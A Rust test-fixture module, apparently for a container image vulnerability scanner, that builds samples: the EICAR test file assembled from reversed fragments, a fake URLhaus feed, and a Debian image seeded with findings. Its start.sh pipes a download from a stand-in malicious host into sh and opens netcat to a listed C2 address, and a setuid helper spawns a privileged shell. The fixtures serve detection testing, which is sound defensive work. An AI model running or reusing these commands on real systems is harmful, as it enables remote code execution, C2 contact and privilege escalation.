//! Samples several tests share: the EICAR test file, a URLhaus feed in its published CSV
//! shape, and an image that carries one finding of every category.

use crate::fixture::{Entry, ImageSpec, LayerSpec, sha256};

/// SHA-256 of the 68-byte EICAR test file (eicar.org).
pub const EICAR_SHA256: &str =
    "sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";

/// A Feodo C2 address from the shared feed (Pikabot, port 1194).
pub const C2: &str = "192.9.135.73";

/// The URL [`urlhaus_csv`] lists.
pub const URL: &str = "http://malware-drop.example-bad.net/bin.sh";

/// The EICAR test file, assembled here from reversed fragments so that the repository never
/// holds it in one piece (scanners on build machines would quarantine this file).
pub fn eicar() -> Vec<u8> {
    let fragments = [
        r"$}7)CC7)^P(45XZP\4[PA@%P!O5X",
        "!ELIF-TSET-SURIVITNA-DRADNATS-RACIE",
        "*H+H$",
    ];
    let bytes: Vec<u8> = fragments
        .iter()
        .flat_map(|f| f.bytes().rev().collect::<Vec<u8>>())
        .collect();
    assert_eq!(sha256(&bytes), EICAR_SHA256, "EICAR assembled wrongly");
    bytes
}

/// A URLhaus "recent URLs" dump listing [`URL`].
pub fn urlhaus_csv() -> String {
    format!(
        "################################################################\n\
         # abuse.ch URLhaus Database Dump (CSV - recent URLs)           #\n\
         ################################################################\n\
         #\n\
         # id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n\
         \"3853890\",\"2026-05-27 11:52:06\",\"{URL}\",\"online\",\"2026-05-27 11:52:06\",\"malware_download\",\"elf,mirai\",\"https://urlhaus.abuse.ch/url/3853890/\",\"reporter\"\n"
    )
}

/// A Debian 11 image with one finding of every category once the DSA list, the Feodo feed
/// and [`urlhaus_csv`] are imported: a CVE (apache2 below its DSA fix), a malicious URL and
/// IP (in a script), malware (EICAR), insecure code (a setuid binary outside any package,
/// root user), leaked credentials (a GitHub token), a forbidden licence (an AGPL Python
/// package) and, from the default ruleset, the failed `ImageScan`.
pub fn every_category_image() -> ImageSpec {
    let base = LayerSpec::new(vec![
        Entry::file(
            "etc/os-release",
            "ID=debian\nVERSION_ID=\"11\"\nVERSION_CODENAME=bullseye\nPRETTY_NAME=\"Debian GNU/Linux 11 (bullseye)\"\n",
        ),
        Entry::file(
            "var/lib/dpkg/status",
            "Package: apache2-bin\nStatus: install ok installed\nSource: apache2\nVersion: 2.4.54-1~deb11u1\nArchitecture: amd64\n\n",
        ),
        Entry::file(
            "usr/lib/python3/dist-packages/ghostscript_tools-9.2.dist-info/METADATA",
            "Metadata-Version: 2.4\nName: ghostscript-tools\nVersion: 9.2\nLicense-Expression: AGPL-3.0-only\n",
        ),
    ]);
    let token = format!("ghp_{}", "Zq8Rt2Lm5Xw9Kp3Vb7Nc4Hd6Jf1Gs0Ty8Ua5");
    let app = LayerSpec::new(vec![
        Entry::file_mode(
            "app/start.sh",
            0o755,
            format!("#!/bin/sh\ncurl -fsSL {URL} | sh\nexec nc {C2} 1194\n"),
        ),
        Entry::file("app/deploy.env", format!("GITHUB_TOKEN={token}\n")),
        Entry::file("app/cache/update.bin", eicar()),
        Entry::file_mode(
            "usr/local/bin/helper",
            0o4755,
            "#!/bin/sh\nexec /bin/sh -p\n",
        ),
    ]);
    ImageSpec::new(vec![base, app])
}
